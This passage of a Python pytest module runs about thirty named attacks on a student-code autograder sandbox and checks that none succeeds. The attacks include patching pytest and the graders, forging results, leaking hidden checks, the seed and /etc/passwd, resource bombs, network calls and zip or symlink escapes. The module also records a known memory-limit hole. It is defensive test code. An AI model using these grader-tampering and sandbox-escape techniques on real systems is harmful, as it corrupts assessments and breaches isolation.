    assert not kept, f"the sandbox's shared memory outlived the run: {kept}"


def space_bounded_and_gone(outcome: Outcome, ctx: Context) -> None:
    """100k files in /tmp and /dev/shm and 256 MiB in /dev/shm: where the judge gives the
    sandbox its private space, each child made at most FILES files and MEGABYTES MiB
    there; wherever they went, none of them is left."""
    from rtpy.grading.private_space import FILES, MEGABYTES

    made = [m.rsplit("-", 2) for m in outcome.marks if "-files_" in m or "-bytes-" in m]
    files = [int(n) for what, n, _ in made if what.endswith(("files_tmp", "files_dev_shm"))]
    sizes = [int(n) for what, n, _ in made if what.endswith("bytes")]
    assert files and sizes, f"the attack did not say what it made: {outcome.marks}"
    if "may make any number of files" not in outcome.stdout:  # the space is bounded
        assert max(files) < FILES, f"files made in one folder: {files}"
        assert max(sizes) <= MEGABYTES * 2**20, f"bytes made in /dev/shm: {sizes}"
    left = [path for folder in ("/tmp", "/dev/shm") for path in Path(folder).glob(f"{ctx.left}-*")]
    assert not left, f"the sandbox's files outlived the run: {left[:5]}"


def no_connection(outcome: Outcome, ctx: Context) -> None:
    assert not [m for m in outcome.marks if "-connected-" in m], "a connection was made"
    assert [m for m in outcome.marks if "-refused-" in m], outcome.marks
    got = listener().received
    assert not got, f"the listener got: {got[:3]}"


def judge_memory_bounded(outcome: Outcome, ctx: Context) -> None:
    assert len([m for m in outcome.marks if "-bombed-" in m]) == 2, outcome.marks
    peak = [ln for ln in outcome.stdout.splitlines() if "the judge's peak memory" in ln]
    assert peak, outcome.stdout[-2000:]
    mib = float(peak[-1].split()[-2])
    assert mib < 1024, f"the judge took {mib:.0f} MiB"
    in_time(outcome, ctx)


def the_judge_stood(outcome: Outcome, ctx: Context) -> None:
    assert "autograder failed" not in outcome.results["output"], outcome.results["output"]


ATTACKS = [
    Attack("patch_pytest", append_code(PATCH_PYTEST), fast=True),
    Attack("patch_graders", append_code(PATCH_GRADERS)),
    Attack("patch_rtpy_grading", append_code(PATCH_RTPY_GRADING)),
    Attack("patch_rtpy_testing", append_code(PATCH_RTPY_TESTING)),
    Attack("patch_comparisons", append_code(PATCH_COMPARISONS)),
    Attack("patch_builtins", append_code(PATCH_BUILTINS)),
    Attack("patch_everything", append_code(PATCH_EVERYTHING), every_week=True),
    Attack("forge_replies", append_code(FORGE), every_week=True),
    Attack("write_work_copy", with_planted(WRITE_WORK_COPY), check=nothing_loaded),
    Attack(
        "write_results_and_source",
        with_planted(WRITE_RESULTS),
        needs_user=True,
        check=source_unchanged,
    ),
    Attack("signal_the_judge", append_code(SIGNAL_JUDGE), needs_user=True),
    Attack(
        "link_in_home",
        home_link,
        needs_user=True,
        check=witness_intact,
    ),
    Attack("kill_own_group", append_code(KILL_OWN_GROUP), check=own_group),
    Attack("descendants", append_code(DESCENDANTS), needs_user=True, check=no_grandchild),
    Attack("leak_hidden_and_seed", append_code(LEAK_HIDDEN), needs_user=True, every_week=True),
    # The student's own exception message may quote a file every user may read (the
    # image's /etc/passwd: public); nothing that is not public is readable by it.
    Attack("leak_system_files", append_code(LEAK_FILES), needs_user=True, public_ok=True),
    Attack(
        "leak_at_import",
        append_code(LEAK_AT_IMPORT, raises=True),
        needs_user=True,
        public_ok=True,
    ),
    Attack("evil_objects", evil_objects),
    Attack("flood_stdout", append_code(FLOOD)),
    Attack("memory", append_code(MEMORY), check=memory_bounded),
    Attack(
        "memory_tree",
        append_code(MEMORY_TREE),
        check=tree_memory_bounded,
        hole="the memory limit is per process (RLIMIT_AS 4 GiB) and 16 processes are "
        "allowed: a process tree can take more than 4 GiB (a cgroup would bound it)",
    ),
    Attack("stop_reading", append_code(STOP_READING), check=in_time),
    Attack("stop_the_killer", append_code(STOP_THE_KILLER), needs_user=True, check=stopped_nothing),
    Attack("write_everywhere", append_code(WRITE_EVERYWHERE), needs_user=True, check=nothing_left),
    Attack("fill_temp", append_code(FILL_TEMP), needs_user=True, check=space_bounded_and_gone),
    Attack("network", append_code(NETWORK), check=no_connection),
    Attack("reply_bomb", append_code(REPLY_BOMB), check=judge_memory_bounded),
    Attack("loop_in_traceback", append_code(LOOP_IN_TRACEBACK), check=the_judge_stood),
    Attack("extra_files", extra_files, runs_code=False, check=extras_never_ran),
    Attack("symlinked_task_files", symlinked, runs_code=False, check=links_refused),
    Attack("zip_with_links_and_escapes", zipped, runs_code=False, check=zip_contained),
]
BY_NAME = {a.name: a for a in ATTACKS}


def cases() -> list:
    found = []
    for week in WEEKS:
        for attack in ATTACKS:
            if (week != "05" and not attack.every_week) or (week, attack.name) == (
                "05",
                "patch_everything",  # week 05 has each patch on its own
            ):
                continue
            marks = [] if attack.fast and week == "05" else [pytest.mark.slow]
            if attack.needs_user and not SANDBOXED:
                marks.append(pytest.mark.skip(reason=NEEDS_USER))
            if attack.hole:
                marks.append(pytest.mark.xfail(strict=True, reason=f"hole: {attack.hole}"))
            found.append(
                pytest.param(week, attack.name, marks=marks, id=f"{week}-{attack.name}-{MODE}")
            )
    return found


# --- running -------------------------------------------------------------------------------
@dataclass
class Outcome:
    results: dict
    stdout: str
    seconds: float
    marks: list[str] = field(default_factory=list)
    leftovers: list[str] = field(default_factory=list)  # rtpy-judge-* in the judge's TMPDIR
    processes: list[int] = field(default_factory=list)  # the sandbox user's, afterwards
    # (zombies aside: killed, and waiting for this machine's init to reap them; and
    # only this run's: see `ours`)


class Bench:
    """The autograders, untouched scores and attack runs of one session."""

    def __init__(self, base: Path) -> None:
        self.base = base
        self.builds: dict[str, Future] = {}
        self.builder = ThreadPoolExecutor(1)
        self.runner = ThreadPoolExecutor(2)  # runs side by side, each with its own user
        self.runs: dict[tuple[str, str], Future] = {}
        self.lock = threading.Lock()

    def build(self, week: str) -> Future:
        with self.lock:
            if week not in self.builds:
                self.builds[week] = self.builder.submit(self._build, week)
            return self.builds[week]

    def _build(self, week: str) -> tuple[Path, Path, dict]:
        folder = self.base / f"build-{week}"
        folder.mkdir()
        zip_path = build_autograder(week, folder / f"week{week}.zip")
        student = make_assignment(week, folder / "student")
        with zipfile.ZipFile(zip_path) as archive:
            config = json.loads(archive.read("autograder.json"))
        return zip_path, student, config

    def run(self, week: str, name: str) -> Future:
        key = (week, name)
        with self.lock:
            if key not in self.runs:
                self.runs[key] = self.runner.submit(self._run, week, name)
            return self.runs[key]

    def _run(self, week: str, name: str) -> tuple[Outcome, Context]:
        zip_path, student, config = self.build(week).result()
        folder = self.base / f"{week}-{name}"
        for sub in ("", "autograder", "tmp", "marks"):
            (folder / sub).mkdir()
            os.chmod(folder / sub, 0o777 if sub == "marks" else 0o755)
        root = folder / "autograder"
        ctx = Context(week, root, folder / "marks", config["task_files"], config["task_functions"])
        ctx.port = listener().port
        extract(zip_path, root / "source")
        ctx.metadata.write_text(json.dumps(METADATA))  # as Gradescope puts it, 0644
        submission = root / "submission"
        shutil.copytree(student, submission)
        if name != "untouched":
            BY_NAME[name].apply(submission, ctx, name)
        env = dict(
            os.environ, AUTOGRADER_ROOT=str(root), PYTHON=PYTHON, TMPDIR=str(folder / "tmp"),
            RTPY_AUTOGRADER_TEST_TIMEOUT=str(TEST_TIMEOUT),
            RTPY_AUTOGRADER_TOTAL_TIMEOUT=str(TOTAL_TIMEOUT),
        )  # fmt: skip
        env.pop("VIRTUAL_ENV", None)
        start = time.monotonic()
        proc = subprocess.run(
            [str(root / "source" / "run_autograder")], env=env, capture_output=True,
            text=True, errors="replace", timeout=TOTAL_TIMEOUT + 180,
        )  # fmt: skip
        seconds = time.monotonic() - start
        assert proc.returncode == 0, proc.stderr[-3000:]
        results = json.loads((root / "results" / "results.json").read_text())
        outcome = Outcome(
            results, proc.stdout, seconds,
            marks=sorted(p.name for p in ctx.marks.iterdir()),
            leftovers=[p.name for p in (folder / "tmp").glob("rtpy-judge-*")],
            processes=ours(all_processes(), folder),
        )  # fmt: skip
        return outcome, ctx

    def close(self) -> None:
        self.runner.shutdown(cancel_futures=True)
        self.builder.shutdown(cancel_futures=True)
        for mark in (p.name for p in self.base.glob("*/marks/*")):
            if "-grandchild-" in mark:  # a descendant an attack started, by its id
                pid = int(mark.rsplit("-", 1)[1])
                if ours([pid], self.base):
                    os.kill(pid, signal.SIGKILL)
        shutil.rmtree(self.base, ignore_errors=True)


class Listener:
    """A server on 127.0.0.1 that records whatever reaches it (nothing should)."""

    def __init__(self) -> None:
        import socket

        self.server = socket.create_server(("127.0.0.1", 0))
        self.port = self.server.getsockname()[1]
        self.received: list[bytes] = []
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        while True:
            try:
                conn, _ = self.server.accept()
            except OSError:
                return
            with conn:
                conn.settimeout(2)
                try:
                    self.received.append(conn.recv(1000) or b"(connected)")
                except OSError:
                    self.received.append(b"(connected)")


@functools.cache
def listener() -> Listener:
    return Listener()


METADATA_MARK = f"metadata-{uuid.uuid4().hex}@example.edu"
METADATA = {"users": [{"email": METADATA_MARK, "name": "A Student"}], "previous_submissions": []}


@pytest.fixture(scope="module")
def bench(request):
    """Starts, in order, every run the selected tests need (the untouched repository of
    a week first), so that they overlap with the tests that wait for them."""
    # memory: a run's thousand files are made and removed fast; as root, /run, which
    # the sandbox's private space does not cover (the marks must reach this process)
    shm = Path("/run" if SANDBOXED else "/dev/shm")
    there = shm if shm.is_dir() and os.access(shm, os.W_OK) else None
    base = Path(tempfile.mkdtemp(prefix="rtpy-attacks-", dir=there))
    os.chmod(base, 0o755)  # like /autograder: the sandbox user may pass, as on Gradescope
    bench = Bench(base)
    selected = [
        item.callspec.params
        for item in request.session.items
        if item.originalname == "test_attack" and not item.get_closest_marker("skip")
    ]
    for params in selected:
        bench.build(params["week"])
    for params in selected:
        bench.run(params["week"], "untouched")
    for params in selected:
        bench.run(params["week"], params["attack"])
    yield bench
    bench.close()


# --- the checks -----------------------------------------------------------------------------
def shown_text(results: dict) -> str:
    """Everything the student reads: the top output and every test's name and output."""
    parts = [str(results.get("output", ""))]
    for test in results.get("tests", []):
        parts += [str(test.get("name", "")), str(test.get("output", ""))]
    return "\n".join(parts)


def hidden_lines(ctx: Context, student: Path) -> list[str]:
    """The lines of the week's hidden checks that no file of the student repository
    holds (at least 30 characters: their code and their prose)."""
    visible = "\n".join(
        p.read_text(errors="replace")
        for p in student.rglob("*")
        if p.is_file() and p.suffix in (".py", ".md", ".toml")
    )
    lines = {ln.strip() for ln in ctx.hidden.read_text().splitlines()}
    return sorted(ln for ln in lines if len(ln) >= 30 and ln not in visible)


def check_valid(results: dict) -> None:
    assert isinstance(results.get("score"), int | float), results
    assert isinstance(results.get("output", ""), str)
    assert isinstance(results.get("tests"), list) and results["tests"], results
    for test in results["tests"]:
        assert isinstance(test["name"], str) and isinstance(test["output"], str), test
        assert 0 <= test["score"] <= test["max_score"], test
    assert results["score"] == sum(t["score"] for t in results["tests"])


def seed_of(outcome: Outcome) -> str:
    seed = outcome.results.get("extra_data", {}).get("seed")
    if seed:
        return str(seed)
    found = [ln.split()[-1] for ln in outcome.stdout.splitlines() if ln.startswith("grading seed ")]
    assert found, "no grading seed in the results nor in the judge's stdout"
    return found[-1]


@pytest.mark.parametrize("week, attack", cases())
def test_attack(bench: Bench, week: str, attack: str):
    """The attacked submission scores no more than the untouched one, the results are
    valid, nothing is left behind and nothing leaks (see the module's docstring)."""
    untouched, _ = bench.run(week, "untouched").result()
    outcome, ctx = bench.run(week, attack).result()
    spec = BY_NAME[attack]
    check_valid(untouched.results)
    check_valid(outcome.results)
    if SANDBOXED:
        assert "no user isolation" not in outcome.stdout, outcome.stdout[-2000:]
    if spec.runs_code:
        assert attack in {m.rsplit("-", 1)[0] for m in outcome.marks}, (
            f"the attack's code never ran: {outcome.marks}"
        )
    assert outcome.results["score"] <= untouched.results["score"], (
        f"{attack}: {outcome.results['score']} > untouched {untouched.results['score']}"
    )
    assert not outcome.processes, f"processes of the run left: {outcome.processes}"
    assert not outcome.leftovers, f"temporary folders left: {outcome.leftovers}"
    text = shown_text(outcome.results)
    student = bench.build(week).result()[1]
    leaked = [ln for ln in hidden_lines(ctx, student) if ln in text]
    assert not leaked, f"lines of the hidden checks shown to the student: {leaked[:3]}"
    assert seed_of(outcome) not in text, "the grading seed is shown to the student"
    if not spec.public_ok:
        assert passwd_first_line() not in text, "/etc/passwd is shown to the student"
    assert METADATA_MARK not in text, "submission_metadata.json is shown to the student"
    if spec.check is not None:
        spec.check(outcome, ctx)


# --- the verdicts themselves ------------------------------------------------------------------
def test_inflated_noise_cannot_pass_a_wrong_render():
    """Week 05's render verdict, on renders twice too bright (light counted twice): honest
    ones fail; the same mean made of one render holding R times the light and R - 1
    black ones (a task method that counts its calls can do it) must fail too."""
    from rtpy.grading.graders import assert_render_matches, load_reference

    reference = load_reference(ROOT / "assignments/week05/reference/direct_area_light.npz")
    spp, renders = 8, 4  # assignments/week05/test_week05.py: RENDER, SEEDS
    mean, noise = reference["mean"], np.sqrt(reference["s2"] / spp)
    rng = np.random.default_rng(5)
    honest = np.stack([2 * mean + noise * rng.standard_normal(mean.shape) for _ in range(renders)])
    with pytest.raises(AssertionError):
        assert_render_matches(honest.clip(0), spp, reference, "twice too bright")
    inflated = np.zeros((renders, *mean.shape))
    inflated[0] = renders * 2 * mean
    with pytest.raises(AssertionError):
        assert_render_matches(inflated, spp, reference, "twice too bright, noise inflated")
